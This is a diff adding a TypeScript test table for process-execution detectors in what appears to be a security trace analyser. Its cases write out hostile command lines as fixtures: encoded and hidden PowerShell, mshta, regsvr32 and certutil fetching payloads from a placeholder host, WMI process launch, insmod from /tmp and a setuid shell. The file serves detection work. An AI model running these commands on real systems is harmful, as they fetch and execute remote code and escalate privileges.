@@ -1,0 +1,90 @@
+import { testFamily } from '../../../../test/trace/detector-table.ts'
+import { environment, file, runs, system } from '../../../../test/trace/empty-trace.ts'
+import { executionDetectors } from './registry.ts'
+
+const encoded = Buffer.from('Write-Output hello', 'utf16le').toString('base64')
+const smuggled = (path: string) => ({
+  dropped: [{ path, bytes: Buffer.from('PK\u0003\u0004'), source: 'smuggled' as const }],
+})
+
+testFamily(executionDetectors, {
+  trace_runs_encoded_powershell: {
+    hits: {
+      '-enc': [runs(`powershell -nop -enc ${encoded}`)],
+      'a shorter name, carets': [runs(`cmd /c p^owershell -e ${encoded}`)],
+    },
+    misses: {
+      'a policy': [runs('powershell -ExecutionPolicy Bypass -File C:\\scripts\\a.ps1')],
+      'another program': [runs(`encoder -e ${encoded}`)],
+    },
+  },
+  trace_hides_powershell: {
+    hits: {
+      'hidden and bypassed': [runs('powershell -w hidden -ep bypass -c dir')],
+      'in full': [runs('powershell.exe -NoProfile -WindowStyle Hidden -File a.ps1')],
+    },
+    misses: {
+      'a file by its policy': [runs('powershell -ExecutionPolicy Bypass -File C:\\scripts\\a.ps1')],
+      'another program': [runs('tool -w hidden -ep bypass')],
+    },
+  },
+  trace_abuses_system_tool: {
+    attack: ['T1218.005'],
+    hits: {
+      mshta: [runs('mshta http://x.example/a.hta')],
+      squiblydoo: [runs('regsvr32 /s /n /u /i:http://x.example/a.sct scrobj.dll')],
+      certutil: [runs('certutil -urlcache -split -f http://x.example/a a.exe')],
+    },
+    misses: {
+      'a library of the program': [runs('regsvr32 /s "C:\\Program Files\\Vendor\\a.ocx"')],
+      'a hash': [runs('certutil -hashfile a.exe SHA256')],
+      'a control panel': [runs('rundll32.exe shell32.dll,Control_RunDLL desk.cpl')],
+    },
+  },
+  trace_starts_process_indirectly: {
+    attack: ['T1047'],
+    hits: { wmi: [runs('calc.exe', { startedBy: 'wmi' })], wmic: [runs('wmic process call create calc.exe')] },
+    misses: { directly: [runs('calc.exe')], 'wmic asks': [runs('wmic process get name')] },
+  },
+  trace_runs_dropped_program: {
+    hits: {
+      'from temp': [
+        file('write', 'C:\\Users\\u\\AppData\\Local\\Temp\\a.exe'),
+        runs('C:\\Users\\u\\AppData\\Local\\Temp\\a.exe'),
+      ],
+    },
+    misses: {
+      'a text is written': [file('write', 'C:\\t\\a.txt'), runs('notepad.exe C:\\t\\a.txt')],
+      'written, not run': [file('write', 'C:\\t\\a.exe'), runs('notepad.exe')],
+    },
+  },
+  trace_document_starts_program: {
+    hits: { 'a shell': [environment({ host_program: 'office' }), runs('cmd /c calc')] },
+    misses: {
+      'a script': [environment({ host_program: 'script_host' }), runs('cmd /c calc')],
+      'nothing started': [environment({ host_program: 'office' })],
+    },
+  },
+  trace_script_starts_shell: {
+    hits: { powershell: [environment({ host_program: 'script_host' }), runs('powershell -c dir')] },
+    misses: {
+      'an ordinary program': [environment({ host_program: 'script_host' }), runs('notepad.exe')],
+      'not a script': [runs('powershell -c dir')],
+    },
+  },
+  trace_smuggles_file: {
+    hits: { 'an archive': [smuggled('invoice.zip')] },
+    misses: {
+      'a file that was fetched': [{ dropped: [{ path: 'a.zip', bytes: new Uint8Array(), source: 'downloaded' }] }],
+      nothing: [],
+    },
+  },
+  trace_loads_kernel_module: {
+    hits: { insmod: [runs('insmod /tmp/a.ko')] },
+    misses: { 'modules are listed': [runs('lsmod')], 'a name with it': [runs('/opt/insmodtool x')] },
+  },
+  trace_raises_rights: {
+    hits: { setuid: [file('mode', '/tmp/sh', { mode: '4755' })], chmod: [runs('chmod u+s /tmp/sh')] },
+    misses: { executable: [file('mode', '/tmp/a', { mode: '0755' })], 'chmod x': [runs('chmod +x /tmp/a'), system()] },
+  },
+})
